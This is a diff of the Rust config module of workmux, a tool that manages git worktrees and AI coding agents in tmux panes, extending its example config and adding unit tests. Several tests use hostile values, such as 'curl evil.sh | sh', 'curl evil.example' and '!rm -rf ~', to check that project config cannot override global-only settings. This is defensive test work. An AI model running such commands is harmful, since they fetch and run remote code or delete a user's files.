+# merge` never pushes to it, and `workmux merge --to-upstream` rebases the
+# branch onto its default branch and pushes it to the fork for a pull request.
+# Default: upstream (when a remote of that name exists)
+# upstream_remote: canonical
+
+# Code host of the repository, used for fork remotes (`owner:branch`),
+# `--pr` checkouts and PR status.
+# Options: github (gh CLI), gitlab (glab CLI), gitea (REST API, also Forgejo;
+# set GITEA_TOKEN for private repositories)
+# Default: Auto-detected from the origin host (hosts containing "gitlab" are
+# GitLab; "gitea", "forgejo" and codeberg.org are Gitea; anything else GitHub).
+# provider: gitlab
+
+# Save the commits of a branch that aren't on the main branch to a bundle in
+# the state directory before `merge`/`remove` deletes it. Restore one with
+# `workmux restore-branch <name>`.
+# branch_backup:
+#   enabled: true
+#   keep_days: 30  # Bundles older than this are pruned (default: 30)
+
+# How long `workmux gc` keeps files and sandboxes workmux leaves behind.
+# gc:
+#   logs_days: 14     # Pane transcripts, after their last write (default: 14)
+#   prompts_days: 7   # Prompt files in the temp directory (default: 7)
+#   sandbox_days: 7   # Stopped wm-* VMs and containers (default: 7)
+
 #-------------------------------------------------------------------------------
 # Naming & Paths
 #-------------------------------------------------------------------------------
@@ -1487,6 +3092,10 @@ impl Config {
 # Default: Sibling directory '<project>__worktrees'.
 # worktree_dir: .worktrees
 
+# Directory for snapshots made by 'workmux remove --archive'.
+# Default: ~/.local/state/workmux/archives
+# archive_dir: ~/workmux-archives
+
 # Strategy for deriving names from branch names.
 # Options: full (default), basename (part after last '/').
 # worktree_naming: basename
@@ -1498,6 +3107,11 @@ impl Config {
 # Default: "wm-"
 # window_prefix: "wm-"
 
+# Per-project window prefixes, keyed by the main worktree's directory name.
+# window_prefixes:
+#   api: "api-"
+#   web: "web-"
+
 #-------------------------------------------------------------------------------
 # Tmux
 #-------------------------------------------------------------------------------
@@ -1507,7 +3121,24 @@ impl Config {
 # - session: Create new tmux sessions for each worktree (useful for session-per-project workflows)
 # mode: session
 
+# What `workmux add` does when a window (or session) with the target name
+# already exists, e.g. one left behind by a crash. Override with --on-collision.
+# - fail: Refuse to create the worktree (default)
+# - reuse: Switch to the window if its panes are in the branch's worktree
+# - replace: Close the window and create a fresh one
+# - suffix: Keep the window and open a numbered one (-2, -3, ...) next to it
+# on_collision: reuse
+
+# Whether `workmux add` switches to the window (or session) it creates.
+# --background (or --no-switch) always keeps it in the background.
+# - always: Switch to the new window (default)
+# - never: Create it in the background
+# - if-idle: Switch only when no agent in the window you're on is working
+# focus_new_window: if-idle
+
 # Custom tmux pane layout (mutually exclusive with 'windows').
+# Commands can use {{handle}}, {{branch}}, {{base}}, {{worktree}} and
+# {{prompt_file}}, e.g. `npm run dev -- --name {{handle}}`.
 # Default: Two-pane layout with shell and clear command.
 # panes:
 #   - command: pnpm install
@@ -1517,6 +3148,66 @@ impl Config {
 #     split: vertical
 #     size: 5
 
+# Panes can wait for each other instead of relying on sleeps in hooks.
+# 'wait_for' says when a pane is ready (port, file and/or command, with a
+# timeout in seconds, default 60); 'depends_on' lists pane indices to wait for.
+# panes:
+#   - command: docker compose up db
+#     wait_for:
+#       port: 5432
+#   - command: npm run dev
+#     split: horizontal
+#     depends_on: [0]
+
+# Long-running panes can keep more scrollback ('history_limit', in lines) and
+# transcribe their output to ~/.local/state/workmux/logs/<project>/<handle>/
+# ('log_output'). Both need tmux; WezTerm and kitty set scrollback in their
+# own config.
+# panes:
+#   - command: <agent>
+#     focus: true
+#   - command: cargo watch -x test
+#     split: horizontal
+#     history_limit: 50000
+#     log_output: true
+
+# Named pane layouts, selected per worktree with `workmux add --layout <name>`
+# instead of 'panes'. `workmux layout preview` draws a layout without
+# creating anything.
+# layouts:
+#   review:
+#     - command: <agent>
+#       focus: true
+#     - command: git log --oneline main..
+#       split: horizontal
+
+# Named overlays on top of this config, selected with `--profile <name>` or
+# the WORKMUX_PROFILE environment variable. A profile can set any option
+# except the global-only ones; lists support "<global>" to extend the base.
+# profiles:
+#   ci:
+#     agent: codex
+#     post_create: []
+#   review:
+#     panes:
+#       - command: <agent>
+#         focus: true
+
+# Split sizes are adjusted to the window (tmux only) so no pane ends up
+# narrower or shorter than these.
+# Default: 20 columns, 5 lines
+# min_pane_width: 20
+# min_pane_height: 5
+
+# Named groups of worktrees (by handle) that are opened, closed and monitored
+# together with `workmux group open|close|status <name>`. Groups can also be
+# created with `workmux group add`.
+# groups:
+#   stack:
+#     - frontend
+#     - backend
+#     - infra
+
 # Multiple windows per session (session mode only, mutually exclusive with 'panes').
 # Each window can have its own pane layout. Unnamed windows get tmux's
 # automatic naming based on the running command.
@@ -1533,15 +3224,55 @@ impl Config {
 #   - panes:
 #       - command: tail -f app.log
 
-# Auto-apply agent status icons to tmux window format.
+# Auto-apply agent status icons to tmux window format. Skipped when your own
+# tmux formats already reference #{@workmux_status} or #{@workmux_pane_status}.
+# Set to false to never change tmux formats; the variables are still updated.
 # Default: true
 # status_format: true
 
-# Custom icons for agent status display.
+# Refuse to send prompts or dashboard input to agents running in the main
+# worktree unless --allow-main is passed.
+# Default: false
+# protect_main: false
+
+# Maximum prompt size in KB. Larger prompts are rejected up front.
+# Default: 100
+# max_prompt_kb: 100
+
+# Log only the size of prompts, never their text.
+# Default: true
+# redact_prompts: true
+
+# Text wrapped around every prompt given to `add` or `open`, e.g. project
+# conventions or commit message rules. The prompt file in the worktree's
+# .workmux/prompts/ holds the final text. Skip with --no-guardrails.
+# Default: None
+# prompt_prefix: |
+#   Follow the conventions in CONTRIBUTING.md. Don't edit files under gen/.
+# prompt_suffix: "Use Conventional Commits for commit messages."
+
+# Parse every generated pane command back before sending it, failing instead
+# of running a command whose quoting broke, and reject branch names that
+# would need shell quoting.
+# Default: false
+# strict_quoting: false
+
+# Icons for agent status display. `theme` picks a named set (nerdfont, emoji
+# or ascii); the first-run setup picks one for your terminal. Individual
+# icons override the theme.
 # status_icons:
+#   theme: emoji
 #   working: "🤖"
 #   waiting: "💬"
 #   done: "✅"
+#   unknown: "❔"
+
+# Seconds without a heartbeat from a working or waiting agent before it is
+# marked unknown, once its process is gone too (or, for a working agent, sits
+# idle at its prompt). Status hooks send heartbeats as the agent works. 0
+# disables the check.
+# Default: 300
+# heartbeat_timeout: 300
 
 #-------------------------------------------------------------------------------
 # Agent & AI
@@ -1551,12 +3282,73 @@ impl Config {
 # Default: "claude"
 # agent: claude
 
+# Lines typed into agent panes once the agent has started, before the prompt
+# (e.g. slash-commands). A list applies to every agent; a map is keyed by
+# agent profile (claude, gemini, codex, opencode) with 'default' for others.
+# agent_init:
+#   - /model opus
+#   - /add-dir ../shared
+# agent_init:
+#   claude: ["/model opus"]
+#   default: []
+
+# How input sent to an agent (prompts, agent_init lines, `workmux send`) is
+# submitted, keyed by agent profile with 'default' for others.
+# keys: tmux key names pressed to submit (default: Enter).
+# delay_ms: wait after typing or pasting before submitting (opencode: 500).
+# paste_chunk_size: paste multi-line input in chunks of this many characters.
+# paste_chunk_delay_ms: wait between chunks (default: 100).
+# agent_submit:
+#   opencode:
+#     delay_ms: 800
+#     paste_chunk_size: 2000
+#   default:
+#     keys: [Enter, Enter]
+
+# Pause working agents when an agent with a higher priority starts working,
+# and resume them once no higher-priority agent is working. Priorities are
+# low, normal (default) and high, set per project with `priority` or per
+# worktree with a `priority:<level>` tag (`workmux add --tag priority:high`).
+# pause: keys sent to interrupt an agent; resume: text typed to resume it.
+# Built-in keys exist for claude, gemini, codex and opencode; agents without
+# keys are never paused. preemption is read from the global config only.
+# priority: high
+# preemption:
+#   enabled: true
+#   agents:
+#     claude:
+#       pause: [Escape]
+#       resume: continue
+
+# Notify when an agent starts waiting for input or finishes, so you don't have
+# to keep the dashboard open. The webhook receives a JSON POST; the command
+# gets WORKMUX_STATUS, WORKMUX_WORKTREE, WORKMUX_PATH, WORKMUX_PANE_ID,
+# WORKMUX_TITLE and WORKMUX_MESSAGE. Read from the global config only.
+# notifications:
+#   on: [waiting, done]  # Default
+#   desktop: true
+#   webhook: https://hooks.slack.com/services/...
+#   command: 'say "$WORKMUX_MESSAGE"'
+
 # LLM-based branch name generation (`workmux add -A`).
 # auto_name:
 #   model: "gpt-4o-mini"
 #   system_prompt: "Generate a kebab-case git branch name."
 #   background: true  # Always run in background when using --auto-name
 
+# Branch naming rules for `workmux add` (skip with `--no-policy`). Names that
+# don't match `pattern` are built from `template`, both for names you pass and
+# for --auto-name; a name that still doesn't match is rejected. Existing
+# branches are opened as they are.
+# branch_policy:
+#   pattern: '^(feat|fix|chore)/[A-Z]+-[0-9]+-[a-z0-9-]+$'
+#   template: "{type}/{ticket}-{name}"
+#   type: feat  # Value of {type} (default: feat)
+#   # Where {ticket} comes from (global config only): one of
+#   # { env: JIRA_TICKET }, { command: "..." } or { prompt: "Ticket" }
+#   ticket:
+#     env: JIRA_TICKET
+
 #-------------------------------------------------------------------------------
 # Hooks
 #-------------------------------------------------------------------------------
@@ -1565,9 +3357,12 @@ impl Config {
 # These block window creation - use for short tasks only.
 # Use "<global>" to inherit from global config.
 # Set to empty list to disable: `post_create: []`
+# With the Lima sandbox, `where: guest` runs a hook inside the worktree's VM.
 # post_create:
 #   - "<global>"
 #   - mise use
+#   - command: mise install
+#     where: guest
 
 # Commands to run before merging (e.g., linting, tests).
 # Aborts the merge if any command fails.
@@ -1595,6 +3390,17 @@ impl Config {
 #   - mkdir -p "$WM_PROJECT_ROOT/artifacts/$WM_HANDLE"
 #   - cp -r test-results/ "$WM_PROJECT_ROOT/artifacts/$WM_HANDLE/"
 
+# The repository's own git hooks (husky, pre-commit, lefthook) also run for
+# the merges, commits and pushes workmux makes.
+# skip: operations to run with --no-verify (merge, commit, push).
+# install: install the hooks' dependencies (e.g. `pnpm install`,
+#   `pre-commit install --install-hooks`) before the other post_create hooks.
+#   Detected from the files in the repository.
+# Default: no operations skipped, install: false.
+# git_hooks:
+#   skip: [merge, commit]
+#   install: true
+
 #-------------------------------------------------------------------------------
 # Files
 #-------------------------------------------------------------------------------
@@ -1619,10 +3425,33 @@ impl Config {
 # Actions for dashboard keybindings (c = commit, m = merge).
 # Values are sent to the agent's pane. Use ! prefix for shell commands.
 # Preview size (10-90): larger = more preview, less table. Use +/- keys to adjust.
+# opencode_server: show what OpenCode agents are currently doing (running tool,
+# tokens, last message) by polling OpenCode's local HTTP server.
+# confirm: ask before destructive actions like merge. Set to false to run them
+# immediately.
+# set_title: set the terminal title to the worktree handle when jumping to an
+# agent.
+# remind_after: minutes an agent can be waiting before the dashboard reminds
+# you; repeated every remind_every minutes until acknowledged with `a`. Repeats
+# raise a desktop notification (remind_notify) and, from the third on, ring the
+# bell (remind_bell), which tmux shows in the status line.
+# evidence_lines: lines of agent output the e key saves as evidence (e.g. a
+# test run) for the squash commit message.
+# watch_files: re-check a worktree's git status as soon as its files change,
+# instead of polling every worktree every 5 seconds.
 # dashboard:
 #   commit: "Commit staged changes with a descriptive message"
 #   merge: "!workmux merge"
 #   preview_size: 60
+#   opencode_server: false
+#   confirm: true
+#   set_title: true
+#   remind_after: 10
+#   remind_every: 10
+#   remind_notify: true
+#   remind_bell: false
+#   evidence_lines: 40
+#   watch_files: false
 
 #-------------------------------------------------------------------------------
 # Sandbox
@@ -1632,6 +3461,25 @@ impl Config {
 #   enabled: false
 #   backend: lima
 #   # host_commands: ["just", "cargo", "npm"]
+#   # Desktop notification when the agent asks to run a host command that
+#   # isn't in host_commands (always recorded in the event log).
+#   # notify_denied: true
+#   # Pull container images ahead of the first agent start (on `workmux
+#   # setup`) and in the background when a newer official image is published.
+#   # prefetch: true
+#   # Variables both the sandboxed agent and the host-run panes of a worktree
+#   # see, so they agree on ports and flags. Written to a generated env file
+#   # per worktree whenever panes or the sandbox start.
+#   # shared_env:
+#   #   API_PORT: "4000"
+#   #   FEATURE_NEW_CHECKOUT: "1"
+#   # What a sandboxed agent may request when it runs `workmux add` (global
+#   # config only). Agents default to the configured agent only; layouts and
+#   # bases default to any.
+#   # spawn:
+#   #   agents: ["claude", "codex"]
+#   #   layouts: ["review"]
+#   #   bases: ["main", "release/*"]
 #   # container:
 #   #   runtime: docker
 #   # lima:
@@ -1649,15 +3497,7 @@ impl Config {
 #   #   - host_path: ~/data
 #   #     guest_path: /mnt/data
 #   #     writable: true
-"#;
-
-        fs::write(&config_path, example_config)?;
-
-        println!("✓ Created .workmux.yaml");
-        println!("\nThis file provides project-specific overrides.");
-        println!("For global settings, edit ~/.config/workmux/config.yaml");
-
-        Ok(())
+"#
     }
 }
 
@@ -1752,10 +3592,15 @@ pub fn is_agent_command(command_line: &str, agent_command: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::{
-        Config, ContainerConfig, ExtraMount, LimaConfig, NetworkConfig, NetworkPolicy,
-        SandboxConfig, SandboxRuntime, SandboxTarget, ToolchainMode, is_agent_command,
-        split_first_token, validate_domain,
+        AgentInit, AgentStatus, Config, ContainerConfig, ExtraMount, FocusPolicy, GitHookOp,
+        GitHooksConfig, HookLocation, IconTheme, LimaConfig, NetworkConfig, NetworkPolicy,
+        NotificationsConfig, PaneConfig, PaneWaitFor, Priority, SandboxConfig, SandboxRuntime,
+        SandboxTarget, SecretSource, SpawnPolicyConfig, SplitDirection, StatusIcons, TicketSource,
+        ToolchainMode, WindowCollision, is_agent_command, project_name, qualified_prefix,
+        split_first_token, unqualified_prefix, validate_domain, validate_panes_config,
     };
+    use std::collections::BTreeMap;
+    use std::path::Path;
 
     #[test]
     fn split_first_token_single_word() {
@@ -2147,6 +3992,57 @@ mod tests {
         assert_eq!(merged.sandbox.toolchain(), ToolchainMode::Devbox);
     }
 
+    #[test]
+    fn status_icons_default_to_the_theme() {
+        let global: Config =
+            serde_yaml::from_str("status_icons:\n  theme: ascii\n  done: ok\n").unwrap();
+        let project: Config = serde_yaml::from_str("status_icons:\n  waiting: '!'\n").unwrap();
+        let icons = global.merge(project).status_icons;
+        assert_eq!(icons.theme(), IconTheme::Ascii);
+        assert_eq!(
+            (icons.working(), icons.waiting(), icons.done()),
+            ("*", "!", "ok")
+        );
+        assert_eq!(StatusIcons::default().working(), "🤖");
+    }
+
+    #[test]
+    fn sandbox_shared_env_merge_extends_global() {
+        let vars = |pairs: &[(&str, &str)]| {
+            Some(
+                pairs
+                    .iter()
+                    .map(|(k, v)| (k.to_string(), v.to_string()))
+                    .collect::<BTreeMap<_, _>>(),
+            )
+        };
+        let global = Config {
+            sandbox: SandboxConfig {
+                shared_env: vars(&[("API_PORT", "4000"), ("LOG_LEVEL", "info")]),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+        let project = Config {
+            sandbox: SandboxConfig {
+                shared_env: vars(&[("API_PORT", "4100"), ("FEATURE_X", "1")]),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+        let merged = global.merge(project);
+        assert_eq!(
+            merged.sandbox.shared_env(),
+            vars(&[
+                ("API_PORT", "4100"),
+                ("FEATURE_X", "1"),
+                ("LOG_LEVEL", "info")
+            ])
+            .as_ref()
+        );
+        assert_eq!(SandboxConfig::default().shared_env(), None);
+    }
+
     #[test]
     fn test_sandbox_host_commands_default_empty() {
         let config = SandboxConfig::default();
@@ -2489,6 +4385,63 @@ extra_mounts:
         assert!(!ro1);
     }
 
+    #[test]
+    fn test_secrets_parse_sources() {
+        let yaml = r#"
+secrets:
+  ANTHROPIC_API_KEY:
+    command: op read op://dev/anthropic/key
+  OPENAI_API_KEY:
+    keychain: openai
+    account: me
+  GITHUB_TOKEN:
+    pass: github/token
+"#;
+        let config: SandboxConfig = serde_yaml::from_str(yaml).unwrap();
+        let secrets = config.secrets().unwrap();
+        assert_eq!(
+            secrets["ANTHROPIC_API_KEY"],
+            SecretSource::Command {
+                command: "op read op://dev/anthropic/key".to_string()
+            }
+        );
+        assert_eq!(
+            secrets["OPENAI_API_KEY"],
+            SecretSource::Keychain {
+                keychain: "openai".to_string(),
+                account: Some("me".to_string())
+            }
+        );
+        assert_eq!(
+            secrets["GITHUB_TOKEN"],
+            SecretSource::Pass {
+                pass: "github/token".to_string()
+            }
+        );
+    }
+
+    #[test]
+    fn test_secrets_project_ignored() {
+        let mut project_secrets = BTreeMap::new();
+        project_secrets.insert(
+            "API_KEY".to_string(),
+            SecretSource::Command {
+                command: "curl evil.example".to_string(),
+            },
+        );
+        let global = Config::default();
+        let project = Config {
+            sandbox: SandboxConfig {
+                secrets: Some(project_secrets),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+
+        let merged = global.merge(project);
+        assert!(merged.sandbox.secrets().is_none());
+    }
+
     #[test]
     fn test_extra_mounts_default_empty() {
         let config = SandboxConfig::default();
@@ -2964,6 +4917,10 @@ windows:
                     size: None,
                     percentage: None,
                     target: None,
+                    depends_on: None,
+                    wait_for: None,
+                    history_limit: None,
+                    log_output: false,
                 }]),
             },
             WindowConfig {
@@ -2975,6 +4932,10 @@ windows:
                     size: None,
                     percentage: None,
                     target: None,
+                    depends_on: None,
+                    wait_for: None,
+                    history_limit: None,
+                    log_output: false,
                 }]),
             },
         ];
@@ -2992,6 +4953,10 @@ windows:
                 size: None,
                 percentage: None,
                 target: None,
+                depends_on: None,
+                wait_for: None,
+                history_limit: None,
+                log_output: false,
             }]),
         }];
         let result = validate_windows_config(&windows);
@@ -3009,6 +4974,10 @@ windows:
                 size: None,
                 percentage: None,
                 target: None,
+                depends_on: None,
+                wait_for: None,
+                history_limit: None,
+                log_output: false,
             }]),
             ..Default::default()
         };
@@ -3050,6 +5019,10 @@ windows:
                 size: None,
                 percentage: None,
                 target: None,
+                depends_on: None,
+                wait_for: None,
+                history_limit: None,
+                log_output: false,
             }]),
             ..Default::default()
         };
@@ -3075,4 +5048,441 @@ windows:
         assert!(merged.windows.is_some());
         assert!(merged.panes.is_none());
     }
+
+    #[test]
+    fn qualified_prefix_roundtrip() {
+        assert_eq!(qualified_prefix("wm-", "api"), "wm-api/");
+        assert_eq!(unqualified_prefix("wm-api/", "api"), Some("wm-"));
+        assert_eq!(unqualified_prefix("wm-", "api"), None);
+        assert_eq!(unqualified_prefix("wm-web/", "api"), None);
+    }
+
+    #[test]
+    fn project_name_is_main_worktree_dir_name() {
+        assert_eq!(project_name(Path::new("/home/me/code/api")), "api");
+    }
+
+    #[test]
+    fn pane_dependencies_parse_and_validate() {
+        let yaml = r#"
+panes:
+  - command: docker compose up db
+    wait_for:
+      port: 5432
+      timeout: 120
+  - command: npm run dev
+    split: horizontal
+    depends_on: [0]
+"#;
+        let config: Config = serde_yaml::from_str(yaml).unwrap();
+        let panes = config.panes.unwrap();
+        let wait_for = panes[0].wait_for.as_ref().unwrap();
+        assert_eq!(wait_for.port, Some(5432));
+        assert_eq!(wait_for.timeout(), 120);
+        assert_eq!(panes[1].depends_on, Some(vec![0]));
+        assert!(validate_panes_config(&panes).is_ok());
+    }
+
+    #[test]
+    fn pane_history_limit_and_logging_parse() {
+        let panes: Vec<PaneConfig> = serde_yaml::from_str(
+            "- command: cargo watch\n  history_limit: 50000\n  log_output: true\n- split: horizontal\n",
+        )
+        .unwrap();
+        assert_eq!(panes[0].history_limit, Some(50000));
+        assert!(panes[0].log_output);
+        assert!(!panes[1].log_output);
+        assert!(validate_panes_config(&panes).is_ok());
+
+        let mut panes = panes;
+        panes[1].history_limit = Some(0);
+        let err = validate_panes_config(&panes).unwrap_err().to_string();
+        assert!(err.contains("Pane 1 has 'history_limit: 0'"), "{}", err);
+    }
+
+    #[test]
+    fn pane_percentages_must_leave_the_split_pane_room() {
+        let panes: Vec<PaneConfig> =
+            serde_yaml::from_str("- command: vim\n- split: horizontal\n  percentage: 100\n")
+                .unwrap();
+        let err = validate_panes_config(&panes).unwrap_err().to_string();
+        assert!(err.contains("invalid percentage 100"), "{}", err);
+
+        // Three splits of pane 0 that each take 90% of what is left
+        let yaml = "- command: vim\n- split: vertical\n  percentage: 90\n";
+        let repeat = "- split: vertical\n  percentage: 90\n  target: 0\n";
+        let panes: Vec<PaneConfig> = serde_yaml::from_str(&format!("{yaml}{repeat}")).unwrap();
+        assert!(validate_panes_config(&panes).is_ok());
+        let panes: Vec<PaneConfig> =
+            serde_yaml::from_str(&format!("{yaml}{repeat}{repeat}")).unwrap();
+        let err = validate_panes_config(&panes).unwrap_err().to_string();
+        assert_eq!(
+            err,
+            "Panes 1, 2, 3 split pane 0 by percentages that leave it less than 1% of its space."
+        );
+    }
+
+    #[test]
+    fn named_layouts_are_validated() {
+        let config: Config = serde_yaml::from_str(
+            "layouts:\n  review:\n    - command: vim\n    - command: git log\n",
+        )
+        .unwrap();
+        let err = config.validate_layouts().unwrap_err().to_string();
+        assert_eq!(
+            err,
+            "Layout 'review': Pane 1 must have a 'split' direction specified."
+        );
+    }
+
+    #[test]
+    fn pane_dependencies_rejects_invalid_references() {
+        let pane = |depends_on: Option<Vec<usize>>, wait_for: Option<PaneWaitFor>, first: bool| {
+            PaneConfig {
+                command: Some("true".to_string()),
+                focus: false,
+                split: (!first).then_some(SplitDirection::Horizontal),
+                size: None,
+                percentage: None,
+                target: None,
+                depends_on,
+                wait_for,
+                history_limit: None,
+                log_output: false,
+            }
+        };
+        let ready = || {
+            Some(PaneWaitFor {
+                file: Some(".ready".to_string()),
+                ..Default::default()
+            })
+        };
+
+        // Dependency without a readiness check
+        let panes = vec![pane(None, None, true), pane(Some(vec![0]), None, false)];
+        assert!(validate_panes_config(&panes).is_err());
+
+        // Out of range and self references
+        let panes = vec![
+            pane(Some(vec![2]), ready(), true),
+            pane(None, ready(), false),
+        ];
+        assert!(validate_panes_config(&panes).is_err());
+        let panes = vec![pane(Some(vec![0]), ready(), true)];
+        assert!(validate_panes_config(&panes).is_err());
+
+        // Empty readiness check
+        let panes = vec![pane(None, Some(PaneWaitFor::default()), true)];
+        assert!(validate_panes_config(&panes).is_err());
+
+        // Cycle
+        let panes = vec![
+            pane(Some(vec![1]), ready(), true),
+            pane(Some(vec![0]), ready(), false),
+        ];
+        assert!(validate_panes_config(&panes).is_err());
+    }
+
+    #[test]
+    fn agent_init_list_and_per_agent_forms() {
+        let config: Config = serde_yaml::from_str("agent_init:\n  - /model opus\n").unwrap();
+        let init = config.agent_init.unwrap();
+        assert_eq!(init.lines_for("claude"), ["/model opus"]);
+        assert_eq!(init.lines_for("gemini"), ["/model opus"]);
+
+        let yaml = r#"
+agent_init:
+  claude: ["/model opus", "/add-dir ../shared"]
+  default: ["hello"]
+"#;
+        let config: Config = serde_yaml::from_str(yaml).unwrap();
+        let init = config.agent_init.unwrap();
+        assert_eq!(init.lines_for("claude").len(), 2);
+        assert_eq!(init.lines_for("codex"), ["hello"]);
+
+        let init = AgentInit::PerAgent(std::collections::BTreeMap::from([(
+            "claude".to_string(),
+            vec![],
+        )]));
+        assert!(init.lines_for("gemini").is_empty());
+    }
+
+    #[test]
+    fn agent_submit_per_agent_with_default() {
+        let yaml = r#"
+agent_submit:
+  opencode:
+    delay_ms: 800
+    paste_chunk_size: 2000
+  default:
+    keys: [Enter, Enter]
+"#;
+        let config: Config = serde_yaml::from_str(yaml).unwrap();
+        let opencode = config.agent_submit_for("opencode").unwrap();
+        assert_eq!(opencode.delay_ms, Some(800));
+        assert_eq!(opencode.paste_chunk_size, Some(2000));
+        assert_eq!(opencode.keys, None);
+        let keys = config.agent_submit_for("codex").unwrap().keys.clone();
+        assert_eq!(keys, Some(vec!["Enter".to_string(), "Enter".to_string()]));
+
+        assert!(Config::default().agent_submit_for("claude").is_none());
+    }
+
+    #[test]
+    fn post_create_hooks_with_location_merge_global() {
+        let global: Config = serde_yaml::from_str("post_create: [mise trust]\n").unwrap();
+        let yaml = r#"
+post_create:
+  - "<global>"
+  - pnpm install
+  - command: mise install
+    where: guest
+"#;
+        let project: Config = serde_yaml::from_str(yaml).unwrap();
+        let hooks = global.merge(project).post_create.unwrap();
+        let summary: Vec<(&str, HookLocation)> =
+            hooks.iter().map(|h| (h.command(), h.location())).collect();
+        assert_eq!(
+            summary,
+            [
+                ("mise trust", HookLocation::Host),
+                ("pnpm install", HookLocation::Host),
+                ("mise install", HookLocation::Guest),
+            ]
+        );
+    }
+
+    #[test]
+    fn preemption_global_only_and_priority_merged() {
+        let global: Config = serde_yaml::from_str(
+            "priority: low\npreemption:\n  enabled: true\n  agents:\n    default:\n      pause: [C-c]\n",
+        )
+        .unwrap();
+        let project: Config = serde_yaml::from_str(
+            "priority: high\npreemption:\n  agents:\n    claude:\n      resume: \"!rm -rf ~\"\n",
+        )
+        .unwrap();
+        let merged = global.merge(project);
+        assert_eq!(merged.priority, Some(Priority::High));
+        assert!(merged.preemption.enabled());
+        let keys = merged.preemption.keys_for("claude").unwrap();
+        assert_eq!(keys.pause.as_deref(), Some(&["C-c".to_string()][..]));
+        assert_eq!(keys.resume, None);
+        assert!(Priority::High > Priority::Normal && Priority::Normal > Priority::Low);
+    }
+
+    #[test]
+    fn notifications_are_global_only() {
+        let global: Config =
+            serde_yaml::from_str("notifications:\n  desktop: true\n  on: [waiting]\n").unwrap();
+        let project: Config =
+            serde_yaml::from_str("notifications:\n  command: \"curl evil.sh | sh\"\n").unwrap();
+        let merged = global.merge(project).notifications;
+        assert!(merged.desktop() && merged.is_enabled());
+        assert_eq!(merged.command, None);
+        assert!(merged.notifies(AgentStatus::Waiting));
+        assert!(!merged.notifies(AgentStatus::Done));
+
+        let defaults = NotificationsConfig::default();
+        assert!(!defaults.is_enabled());
+        assert!(defaults.notifies(AgentStatus::Done));
+        assert!(!defaults.notifies(AgentStatus::Working));
+    }
+
+    #[test]
+    fn git_hooks_merge_per_field() {
+        let global: Config =
+            serde_yaml::from_str("git_hooks:\n  skip: [merge, push]\n  install: true\n").unwrap();
+        let project: Config = serde_yaml::from_str("git_hooks:\n  skip: [commit]\n").unwrap();
+        let merged = global.merge(project).git_hooks;
+        assert!(merged.skips(GitHookOp::Commit));
+        assert!(!merged.skips(GitHookOp::Merge));
+        assert!(merged.install());
+        assert!(!GitHooksConfig::default().skips(GitHookOp::Push));
+    }
+
+    #[test]
+    fn branch_policy_merges_per_field_with_global_ticket() {
+        let global: Config = serde_yaml::from_str(
+            "branch_policy:\n  template: \"{type}/{ticket}-{name}\"\n  ticket:\n    env: JIRA_TICKET\n",
+        )
+        .unwrap();
+        let project: Config = serde_yaml::from_str(
+            "branch_policy:\n  pattern: '^feat/'\n  type: fix\n  ticket:\n    command: \"curl evil.sh | sh\"\n",
+        )
+        .unwrap();
+        let merged = global.merge(project).branch_policy;
+        assert_eq!(merged.pattern.as_deref(), Some("^feat/"));
+        assert_eq!(merged.template.as_deref(), Some("{type}/{ticket}-{name}"));
+        assert_eq!(merged.kind(), "fix");
+        assert_eq!(
+            merged.ticket,
+            Some(TicketSource::Env {
+                env: "JIRA_TICKET".to_string()
+            })
+        );
+    }
+
+    #[test]
+    fn apply_layout_replaces_panes_and_windows() {
+        let yaml = r#"
+windows:
+  - panes:
+      - command: vim
+layouts:
+  review:
+    - command: <agent>
+      focus: true
+    - command: git log
+      split: horizontal
+"#;
+        let mut config: Config = serde_yaml::from_str(yaml).unwrap();
+        config.apply_layout("review").unwrap();
+        assert!(config.windows.is_none());
+        let commands: Vec<_> = config
+            .panes
+            .unwrap()
+            .iter()
+            .map(|p| p.command.clone().unwrap())
+            .collect();
+        assert_eq!(commands, ["<agent>", "git log"]);
+
+        let mut config: Config = serde_yaml::from_str(yaml).unwrap();
+        let err = config.apply_layout("nope").unwrap_err().to_string();
+        assert_eq!(err, "Unknown layout 'nope'. Available layouts: review");
+    }
+
+    #[test]
+    fn profiles_overlay_the_merged_config() {
+        let global: Config = serde_yaml::from_str(
+            "agent: claude\npost_create: [npm install]\nprofiles:\n  ci:\n    agent: gemini\n",
+        )
+        .unwrap();
+        let project: Config = serde_yaml::from_str(
+            r#"
+worktree_dir: .worktrees
+profiles:
+  ci:
+    agent: codex
+    post_create: ["<global>", make lint]
+    sandbox:
+      image: evil:latest
+  review:
+    worktree_dir: ../review
+"#,
+        )
+        .unwrap();
+        let merged = global.merge(project);
+        let profiles: Vec<_> = merged.profiles.iter().flat_map(|p| p.keys()).collect();
+        assert_eq!(profiles, ["ci", "review"]);
+
+        let config = merged.clone().apply_profile("ci").unwrap();
+        assert_eq!(config.agent.as_deref(), Some("codex"));
+        assert_eq!(config.worktree_dir.as_deref(), Some(".worktrees"));
+        let hooks: Vec<_> = config
+            .post_create
+            .iter()
+            .flatten()
+            .map(|h| h.command())
+            .collect();
+        assert_eq!(hooks, ["npm install", "make lint"]);
+        // Global-only settings can't come from a profile
+        assert!(config.sandbox.image.is_none());
+
+        let err = merged.apply_profile("nope").unwrap_err().to_string();
+        assert_eq!(
+            err,
+            "Unknown profile 'nope'. Available profiles: ci, review"
+        );
+        let err = Config::default()
+            .apply_profile("ci")
+            .unwrap_err()
+            .to_string();
+        assert_eq!(err, "Unknown profile 'ci': no profiles are configured");
+
+        let nested: Config =
+            serde_yaml::from_str("profiles:\n  a:\n    profiles:\n      b: {}\n").unwrap();
+        assert!(nested.apply_profile("a").is_err());
+    }
+
+    #[test]
+    fn project_groups_replace_global_groups() {
+        let global: Config = serde_yaml::from_str("groups:\n  all: [a, b]\n").unwrap();
+        let project: Config = serde_yaml::from_str("groups:\n  stack: [web, api]\n").unwrap();
+        let groups = global.merge(project).groups.unwrap();
+        assert_eq!(groups.keys().collect::<Vec<_>>(), ["stack"]);
+        assert_eq!(groups["stack"], ["web", "api"]);
+    }
+
+    #[test]
+    fn spawn_policy_is_global_only() {
+        let global: Config = serde_yaml::from_str(
+            "sandbox:\n  spawn:\n    agents: [claude]\n    bases: [main, release/*]\n",
+        )
+        .unwrap();
+        let project: Config =
+            serde_yaml::from_str("sandbox:\n  spawn:\n    agents: [sh]\n").unwrap();
+        let policy = global.merge(project).sandbox.spawn;
+        assert!(policy.allows_agent("claude", None));
